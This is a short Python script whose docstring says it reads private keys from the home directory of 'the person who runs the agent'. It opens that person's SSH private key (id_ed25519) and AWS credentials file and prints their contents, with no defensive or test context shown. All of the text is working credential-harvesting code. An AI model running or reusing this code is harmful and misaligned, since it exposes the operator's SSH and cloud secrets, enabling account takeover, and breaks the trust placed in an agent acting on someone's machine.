"""Reads private keys. argv: the home directory of the person who runs the agent."""

import os
import sys

home = sys.argv[1]
targets = [os.path.join(home, ".ssh", "id_ed25519"), os.path.expanduser("~/.ssh/id_ed25519"),
           os.path.join(home, ".aws", "credentials")]
for path in targets:
    try:
        with open(path) as secret:
            print("GOT", path, secret.read())
    except OSError as error:
        print("no", path, error.strerror)
